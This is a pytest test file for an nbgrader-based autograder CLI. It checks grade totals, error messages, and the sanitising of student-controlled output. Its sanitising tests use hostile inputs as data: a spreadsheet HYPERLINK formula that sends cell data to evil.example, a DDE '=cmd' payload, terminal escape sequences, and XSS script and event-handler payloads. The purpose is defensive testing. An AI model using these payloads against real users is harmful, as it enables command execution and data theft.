"""What instructors see from `effml`: totals with manual points, course
discovery, one-line errors, global options anywhere, and output sanitised
for the terminal, spreadsheets and browsers (issue 18).

Fast: no notebook is executed. Each test builds a small nbgrader gradebook
for lab00_basics in a temporary work directory and writes the Result files
that `effml grade` would have left."""
from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from autograder import cli
from autograder.course import REPO_ROOT, Course, find_course_root
from autograder.grade import Result, _save_result, load_result
from autograder.report import export_csv, format_table, generate_feedback, results
from autograder.sanitize import csv_cell, plain_text

LAB = "lab00_basics"
HIDDEN_SECRET = "assert conv2d_output_size(7, 3, 2, 1) == 4  # secret-hidden-case"


def _effml(*args, cwd=REPO_ROOT, **kw):
    return subprocess.run([sys.executable, "-m", "autograder.cli", *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, timeout=120, **kw)


# ---------------------------------------------------------------- fixtures


def _add_student(course: Course, student: str, *, tests_score: float = 90, written: float | None = None,
                 reasons=(), status: str = "ok", result_extra: dict | None = None) -> None:
    """A graded submission: the 90-point test cell scored ``tests_score``,
    the 10-point written answer given ``written`` by hand (None: not yet)."""
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url) as gb:
        gb.update_or_create_student(student)
        gb.update_or_create_submission(LAB, student)
        tests = gb.find_grade("tests", LAB, LAB, student)
        tests.auto_score, tests.needs_manual_grade = tests_score, False
        answer = gb.find_grade("written", LAB, LAB, student)
        answer.auto_score = None
        answer.manual_score = written
        answer.needs_manual_grade = written is None
        gb.db.commit()
    r = Result(student, LAB, status, reasons=list(reasons))
    from autograder.grade import _finish_totals

    _finish_totals(course, r)
    _save_result(course, r)
    if result_extra:  # a Result file as another version would have written it
        path = course.workdir / "results" / LAB / f"{student}.json"
        data = json.loads(path.read_text())
        data.update(result_extra)
        path.write_text(json.dumps(data))


@pytest.fixture(scope="module")
def empty_gradebook(tmp_path_factory) -> Path:
    """A gradebook that knows lab00_basics as two cells: a 90-point
    autograded test cell and a 10-point written answer."""
    from nbgrader.api import Gradebook

    course = Course(workdir=tmp_path_factory.mktemp("gradebook"))
    with Gradebook(course.db_url) as gb:
        gb.add_assignment(LAB)
        gb.add_notebook(LAB, LAB)
        gb.add_grade_cell("tests", LAB, LAB, max_score=90, cell_type="code")
        gb.add_grade_cell("written", LAB, LAB, max_score=10, cell_type="markdown")
        gb.add_solution_cell("written", LAB, LAB)
    return course.db_path


@pytest.fixture
def course(tmp_path, empty_gradebook) -> Course:
    """A fresh work directory with a copy of that gradebook."""
    course = Course(workdir=tmp_path / "grading")
    course.workdir.mkdir()
    shutil.copy(empty_gradebook, course.db_path)
    return course


def _autograded(course: Course, student: str, cells) -> None:
    nb = nbformat.v4.new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}
    path = course.autograded(student, LAB) / f"{LAB}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def _test_cell(outputs=()):
    cell = nbformat.v4.new_code_cell(
        "assert conv2d_output_size(5, 3, 1, 0) == 3\n### BEGIN HIDDEN TESTS\n"
        f"{HIDDEN_SECRET}\n### END HIDDEN TESTS\nprint('checked')", outputs=list(outputs))
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "tests",
                                 "points": 90, "schema_version": 3}
    return cell


def _written_cell(source):
    cell = nbformat.v4.new_markdown_cell(source)
    cell.metadata["nbgrader"] = {"grade": True, "solution": True, "locked": False, "grade_id": "written",
                                 "points": 10, "schema_version": 3}
    return cell


# ---------------------------------------------------------------- 1. totals


def test_totals_include_manual_points_and_say_when_manual_grading_is_pending(course, tmp_path, capsys):
    _add_student(course, "alice", written=8)        # graded by hand: 8/10
    _add_student(course, "bob", written=None)        # nobody has read bob's answer yet
    rows = {r.student: r for r in results(course, LAB)}
    alice, bob = rows["alice"], rows["bob"]
    assert (alice.total_score, alice.auto_score, alice.manual_score, alice.manual_max, alice.max_score) == \
        (98, 90, 8, 10, 100)
    assert alice.manual_pending == 0
    assert (bob.total_score, bob.manual_score, bob.manual_pending) == (90, 0, 1)

    table = format_table(list(rows.values()))
    alice_line = next(line for line in table.splitlines() if " alice " in line)
    bob_line = next(line for line in table.splitlines() if " bob " in line)
    assert "98/100" in alice_line and "90/90" in alice_line and "8/10" in alice_line
    assert "yes" not in alice_line
    assert "90/100" in bob_line and "yes" in bob_line
    assert "manual grading pending for 1 submission" in table

    export_csv(course, tmp_path / "export")
    by_student = {row["student"]: row for row in csv.DictReader(open(tmp_path / "export" / f"grades_{LAB}.csv"))}
    assert by_student["alice"]["total"] == "98" and by_student["alice"]["auto_score"] == "90"
    assert by_student["alice"]["manual_score"] == "8" and by_student["alice"]["manual_max"] == "10"
    assert by_student["alice"]["pending"] == "" and by_student["bob"]["pending"] == "manual grading pending"
    assert by_student["bob"]["total"] == "90" and by_student["bob"]["written"] == ""

    assert cli.main(["gradebook", "--workdir", str(course.workdir)]) == 0
    assert "98/100" in capsys.readouterr().out


def test_old_and_newer_result_files_still_load(course):
    _add_student(course, "carol", written=None, result_extra={"field_from_the_future": 1})
    path = course.workdir / "results" / LAB / "carol.json"
    data = json.loads(path.read_text())
    assert load_result(course, LAB, "carol").student == "carol"  # unknown key ignored
    for key in ("manual_score", "total_score", "manual_pending", "field_from_the_future"):
        data.pop(key)
    path.write_text(json.dumps(data))                                # as saved before this change
    old = load_result(course, LAB, "carol")
    assert (old.total_score, old.manual_pending) == (90, 1)         # filled in from what is there
    path.write_text("[1, 2]")
    assert load_result(course, LAB, "carol") is None


# ---------------------------------------------------------------- 2. course discovery


def test_the_course_is_found_from_the_current_folder(tmp_path, monkeypatch, capsys):
    assert find_course_root(REPO_ROOT / "solutions" / LAB) == REPO_ROOT
    other = tmp_path / "course2"
    (other / "solutions" / "lab00_x").mkdir(parents=True)
    (other / "nbgrader_config.py").write_text("")
    (other / "solutions" / "lab00_x" / "lab00_x.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    (other / "deep" / "er").mkdir(parents=True)
    assert find_course_root(other / "deep" / "er") == other.resolve()

    # `effml` acts on the course it is run in, not on the repository it was installed from.
    run = _effml("gradebook", "--lab", "lab00_x", cwd=other / "deep")
    assert run.returncode == 0, run.stderr
    monkeypatch.chdir(other / "deep" / "er")
    error = _main_error(capsys, "gradebook", "--lab", LAB)
    assert "unknown lab 'lab00_basics'" in error and "lab00_x" in error

    outside = tmp_path / "nowhere"
    outside.mkdir()
    monkeypatch.chdir(outside)
    assert _main_error(capsys, "gradebook") == (
        f"effml: error: not inside a course (no nbgrader_config.py found from {outside.resolve()} upwards); "
        "pass --course DIR")
    assert cli.main(["--course", str(other), "gradebook", "--lab", "lab00_x"]) == 0
    assert cli.main(["gradebook", "--lab", "lab00_x", "--course", str(other)]) == 0
    assert "not a course folder" in _main_error(capsys, "gradebook", "--course", outside)
    assert Course().root == REPO_ROOT  # library callers keep the default


# ---------------------------------------------------------------- 3. errors


def _one_line_error(run):
    assert run.returncode != 0
    assert "Traceback" not in run.stderr, run.stderr
    lines = run.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("effml: error: "), run.stderr
    return lines[0]


def _main_error(capsys, *argv) -> str:
    """`effml ARGV` in this process: a non-zero status and one stderr line."""
    capsys.readouterr()
    code = cli.main([str(a) for a in argv])
    err = capsys.readouterr().err
    assert code != 0, argv
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("effml: error: "), err
    return lines[0]


def test_user_errors_are_one_line_and_exit_non_zero(tmp_path, capsys):
    # The real command: one line on stderr, status 2, no traceback.
    assert "/no/such/path" in _one_line_error(_effml("grade", "/no/such/path"))
    verbose = _effml("-v", "grade", "/no/such/path")
    assert verbose.returncode == 2 and "Traceback" in verbose.stderr  # kept for -v

    (tmp_path / "grades.txt").write_text("not a notebook")
    assert "not a notebook" in _main_error(capsys, "grade", tmp_path / "grades.txt")
    for command in ("gradebook", "export", "feedback"):
        assert "unknown lab 'no_such_lab'" in _main_error(capsys, command, "--lab", "no_such_lab")
    assert "unknown lab" in _main_error(capsys, "grade", tmp_path, "--lab", "no_such_lab")
    assert "unknown lab" in _main_error(capsys, "check-release", "no_such_lab")
    assert "unknown lab" in _main_error(capsys, "validate", "no_such_lab")

    # `effml run` checks its input before anything is written beside it.
    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "notes.txt").write_text("hello")
    (folder / "broken.ipynb").write_text("{not json")
    assert "no such file" in _main_error(capsys, "run", folder / "missing.ipynb")
    assert "not a notebook" in _main_error(capsys, "run", folder / "notes.txt")
    assert "not a readable notebook" in _main_error(capsys, "run", folder / "broken.ipynb")
    assert "is a folder" in _main_error(capsys, "run", folder)
    assert sorted(p.name for p in folder.iterdir()) == ["broken.ipynb", "notes.txt"]  # no .executed.*


def test_main_returns_2_with_one_line_for_user_errors(capsys):
    assert cli.main(["grade", "/no/such/path"]) == 2
    err = capsys.readouterr().err
    assert err == "effml: error: no such file or folder: /no/such/path\n"
    assert cli.main(["gradebook", "--bogus-option"]) == 2  # argparse's own message, no traceback


# ---------------------------------------------------------------- 4. one student's folder


def test_one_students_folder_or_notebook_is_graded_as_that_student(tmp_path):
    labs = Course().labs()
    subs_dir = tmp_path / "subs"
    for student in ("alice", "bob"):
        (subs_dir / student).mkdir(parents=True)
        (subs_dir / student / f"{LAB}.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    subs, warnings = cli.collect_submissions(subs_dir / "alice", labs)
    assert [(s.student, s.lab) for s in subs] == [("alice", LAB)] and warnings == []
    assert subs[0].origin == str((subs_dir / "alice" / f"{LAB}.ipynb").resolve())
    assert subs[0].data == (subs_dir / "alice" / f"{LAB}.ipynb").read_bytes()

    subs, _ = cli.collect_submissions(subs_dir / "bob" / f"{LAB}.ipynb", labs)
    assert [(s.student, s.lab) for s in subs] == [("bob", LAB)]
    subs, _ = cli.collect_submissions(subs_dir, labs)  # the whole class still works
    assert sorted(s.student for s in subs) == ["alice", "bob"]
    with pytest.raises(cli.UserError):
        cli.collect_submissions(subs_dir / "alice" / f"{LAB}.ipynb", labs, only="lab01_pruning")


# ---------------------------------------------------------------- 5. global options anywhere


def test_global_options_work_before_and_after_the_subcommand(course, capsys):
    _add_student(course, "alice", written=8)
    for argv in (["--workdir", course.workdir, "gradebook"], ["gradebook", "--workdir", course.workdir],
                 ["gradebook", "--course", REPO_ROOT, "--workdir", course.workdir, "-v"]):
        assert cli.main([str(a) for a in argv]) == 0
        assert "alice" in capsys.readouterr().out
    args = cli.build_parser().parse_args(["--workdir", "A", "gradebook"])
    assert args.workdir == "A"  # the subcommand's parser does not reset it
    args = cli.build_parser().parse_args(["-v", "--workdir", "A", "export", "--workdir", "B"])
    assert args.workdir == "B" and args.verbose
    run = _effml("gradebook", "--workdir", course.workdir)
    assert run.returncode == 0 and "alice" in run.stdout


# ---------------------------------------------------------------- 6. sanitising


def test_plain_text_and_csv_cell():
    evil = "ok\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b1m\r\nnext\u202eevil\x00"
    text = plain_text(evil)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202e]", text) and text == "okred nextevil"
    assert plain_text("x" * 50, 10) == "xxxxxxx..."
    assert csv_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    for risky in ("+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1"):
        assert csv_cell(risky).startswith("'"), risky
    for safe in ("-3", "+4.5", "-1e3", "98", "alice", "", "a=b"):
        assert csv_cell(safe) == safe


def test_table_and_csv_neutralise_what_students_control(course, tmp_path):
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _add_student(course, "mallory\x1b[2J", written=None, status="ok\x1b]0;pwned\x07",
                 reasons=[hyperlink, "line\nbreak \x1b[31mred"])
    _add_student(course, "=cmd|' /C calc'!A0", written=3)
    table = format_table(results(course))
    assert "\x1b" not in table and "\x07" not in table
    assert "mallory" in table and "=HYPERLINK" in table

    export_csv(course, tmp_path / "export")
    raw = (tmp_path / "export" / f"grades_{LAB}.csv").read_text()
    assert "\x1b" not in raw
    rows = list(csv.DictReader(open(tmp_path / "export" / f"grades_{LAB}.csv")))
    cells = [v for row in rows for v in row.values()]
    assert "'" + hyperlink + "; line\nbreak red" in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert not [v for v in cells if v[:1] in ("=", "+", "@") or (v.startswith("-") and not
                                                                 re.fullmatch(r"-[\d.]+", v))]
    tasks = list(csv.reader(open(tmp_path / "export" / "tasks.csv")))
    assert not [v for row in tasks for v in row if v[:1] in ("=", "+", "-", "@")]


def _malicious_cells():
    written = _written_cell(
        "My answer <script>alert('md')</script> <img src=x onerror=\"alert('img')\">\n\n"
        "[click](javascript:alert('link')) <a href=\"javascript:alert('a')\">a</a>\n\n"
        "<iframe src=\"https://evil.example\"></iframe><div style=\"position:fixed\" "
        "class=\"navbar-fixed-top\">fake 100/100</div>")
    html_out = nbformat.v4.new_output(
        "display_data", data={"text/html": "<b>bold</b><script>alert('out')</script>"
                                           "<svg onload=alert('svg')></svg>",
                              "application/javascript": "alert('js')", "text/plain": "plain"})
    image = nbformat.v4.new_output(
        "display_data", data={"image/png": "iVBORw0KGgo="},
        metadata={"image/png": {"width": "1 onerror=alert('meta')"}})
    error = nbformat.v4.new_output("error", ename="AssertionError", evalue="wrong size",
                                   traceback=["Traceback", f"----> 4 {HIDDEN_SECRET}", "AssertionError"])
    code = nbformat.v4.new_code_cell("display(HTML(...))", outputs=[html_out, image])
    code.metadata["tags"] = ['x" onmouseover="alert(1)']
    return [written, code, _test_cell([error])]


def _assert_inert(page: str):
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'' in page
    head = page[page.index("<head"):page.index("</head>")]
    assert head.index("Content-Security-Policy") < min(
        [head.find(t) for t in ("<style", "<link", "<script") if head.find(t) >= 0] or [len(head)])
    assert "<script" not in page.lower()
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", page, re.I)
    # no event-handler attribute on any element
    for tag in re.findall(r"<[a-zA-Z][^<>]*>", page):
        assert not re.search(r"\son[a-z]+\s*=", tag, re.I), tag
    assert "alert('js')" not in page and "<iframe" not in page
    assert not re.search(r"class=['\"][^'\"]*navbar-fixed-top", page)  # no page-layout classes
    assert not re.search(r"style=['\"][^'\"]*position:\s*fixed", page)


def test_feedback_is_sanitised_hides_hidden_tests_and_counts_manual_points(course):
    _add_student(course, "mallory", written=8)
    _autograded(course, "mallory", _malicious_cells())
    (page,) = generate_feedback(course, LAB, timeout_s=120)
    html = page.read_text()
    _assert_inert(html)
    assert "98/100 points in total" in html and "90/90 automatic points" in html and "8/10" in html
    assert "My answer" in html and "<b>bold</b>" in html  # formatting survives
    assert "secret-hidden-case" not in html and "(hidden tests are not shown)" in html
    assert "AssertionError: wrong size" in html  # the student still sees why the test failed
    assert "checked" in html  # the visible test stays

    generate_feedback(course, LAB, show_hidden=True, timeout_s=120)
    assert "secret-hidden-case" in page.read_text()  # for instructors who ask

    _add_student(course, "bob", written=None)
    _autograded(course, "bob", [_test_cell(), _written_cell("an answer")])
    generate_feedback(course, LAB, timeout_s=120)
    bob = (course.feedback_dir() / "bob" / LAB / f"{LAB}.html").read_text()
    assert "manual grading pending" in bob and bob.count("<!--effml-->") == 1


def test_feedback_cli_option_show_hidden(course, capsys):
    _add_student(course, "alice", written=8)
    _autograded(course, "alice", [_test_cell(), _written_cell("an answer")])
    page = course.feedback_dir() / "alice" / LAB / f"{LAB}.html"
    assert cli.main(["feedback", "--workdir", str(course.workdir), "--lab", LAB]) == 0
    assert "secret-hidden-case" not in page.read_text()
    assert cli.main(["feedback", "--show-hidden", "--workdir", str(course.workdir)]) == 0
    assert "secret-hidden-case" in page.read_text()
    assert "1 feedback page(s)" in capsys.readouterr().out


def test_a_pathological_markdown_cell_renders_quickly_and_truncated(course):
    # nbconvert's strip_files_prefix filter is quadratic in '[': 60 KB of them took 36 s.
    _add_student(course, "slow", written=None)
    _autograded(course, "slow", [_written_cell("[" * 60_000), _test_cell(
        [nbformat.v4.new_output("stream", name="stdout", text="y" * 200_000)])])
    start = time.monotonic()
    (page,) = generate_feedback(course, LAB, timeout_s=120)
    elapsed = time.monotonic() - start
    html = page.read_text()
    assert elapsed < 10, f"feedback took {elapsed:.1f} s"
    assert "truncated by the grader" in html and "[" * 20_000 in html and "[" * 20_001 not in html
    assert "y" * 20_000 in html and "y" * 20_001 not in html


def test_one_slow_or_broken_student_does_not_block_the_others(course, monkeypatch):
    import autograder.report as report

    for student in ("alice", "slowpoke", "broken"):
        _add_student(course, student, written=8)
        _autograded(course, student, [_test_cell(), _written_cell("an answer")])
    real = report.render_feedback

    def render(course, lab, student, show_hidden=False):
        if student == "slowpoke":
            time.sleep(60)
        if student == "broken":
            raise RuntimeError("the template fell over")
        return real(course, lab, student, show_hidden)

    monkeypatch.setattr(report, "render_feedback", render)  # the child process is forked: it sees this
    start = time.monotonic()
    pages = {p.parent.parent.name: p.read_text() for p in generate_feedback(course, LAB, timeout_s=3)}
    assert time.monotonic() - start < 30
    assert "an answer" in pages["alice"]
    assert "took longer than 3 s" in pages["slowpoke"] and "98/100" in pages["slowpoke"]
    assert "rendering failed: RuntimeError" in pages["broken"]
    for html in pages.values():
        _assert_inert(html)


def test_formgrader_renders_student_notebooks_sanitised(tmp_path):
    """nbgrader_config.py makes the HTMLExporter that Formgrader (and
    `nbgrader generate_feedback`) use sanitise what students wrote."""
    import nbgrader.server_extensions.formgrader.handlers as handlers
    from nbconvert.exporters import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(REPO_ROOT)).load_config()
    assert config.HTMLExporter.sanitize_html is True
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    exporter = HTMLExporter(config=config)
    nb = nbformat.v4.new_notebook(cells=_malicious_cells())
    page, _ = exporter.from_notebook_node(nb, resources={  # what formgrader's SubmissionHandler passes
        "assignment_id": LAB, "notebook_id": LAB, "submission_id": "1", "index": 0, "total": 1, "base_url": "",
        "student": "mallory", "last_name": None, "first_name": None, "notebook_path": f"{LAB}.ipynb"})
    body = page[page.index("<body"):]
    assert "alert('md')" not in re.sub(r"&lt;script&gt;alert\('md'\)", "", body)
    assert "<script>alert(" not in body and "alert('js')" not in body
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", body, re.I)
    for tag in re.findall(r"<[a-zA-Z][^<>]*>", body):
        if "alert" in tag:
            raise AssertionError(f"student markup reached the page: {tag}")


def test_nbgraders_own_feedback_is_sanitised_and_hides_hidden_tests(course):
    """Formgrader's "generate feedback" button runs nbgrader's GenerateFeedback
    with nbgrader_config.py: the same sanitising and hidden-test removal."""
    from nbgrader.converters import GenerateFeedback
    from traitlets.config.loader import PyFileConfigLoader

    _add_student(course, "mallory", written=8)
    _autograded(course, "mallory", _malicious_cells())
    config = PyFileConfigLoader("nbgrader_config.py", path=str(REPO_ROOT)).load_config()
    config.GenerateFeedback.force = True
    coursedir = course.coursedir()
    coursedir.assignment_id = LAB
    GenerateFeedback(coursedir=coursedir, config=config).start()
    html = (course.feedback_dir() / "mallory" / LAB / f"{LAB}.html").read_text()
    assert "My answer" in html and "(hidden tests are not shown)" in html
    assert "secret-hidden-case" not in html
    body = html[html.index("<body"):]
    assert "<script>alert(" not in body and "alert('js')" not in body
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", body, re.I)
    for tag in re.findall(r"<[a-zA-Z][^<>]*>", body):
        assert not re.search(r"\son[a-z]+\s*=", tag, re.I), tag


def test_feedback_copy_strips_hidden_regions_and_bounds_the_page():
    from autograder.report import MAX_PAGE_CHARS, TRUNCATED, prepare_feedback_notebook, strip_hidden_tests

    src = "a = 1\n    ### BEGIN HIDDEN TESTS\n    assert secret()\n    ### END HIDDEN TESTS\nb = 2"
    assert strip_hidden_tests(src) == ("a = 1\n    # (hidden tests are not shown)\nb = 2", True)
    assert strip_hidden_tests("x\n### BEGIN HIDDEN TESTS\nsecret()") == ("x\n# (hidden tests are not shown)", True)
    assert strip_hidden_tests("plain") == ("plain", False)

    flood = nbformat.v4.new_code_cell("print('x' * 10**9)", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text="x" * 1000) for _ in range(5000)])
    later = nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("stream", name="stdout", text="y")])
    nb = prepare_feedback_notebook(nbformat.v4.new_notebook(cells=[flood, later]))
    text = sum(len(o.get("text", "")) for c in nb.cells for o in c.outputs)
    assert text <= MAX_PAGE_CHARS + 1000
    assert TRUNCATED in nb.cells[0].outputs[-1].text and TRUNCATED in nb.cells[1].outputs[-1].text
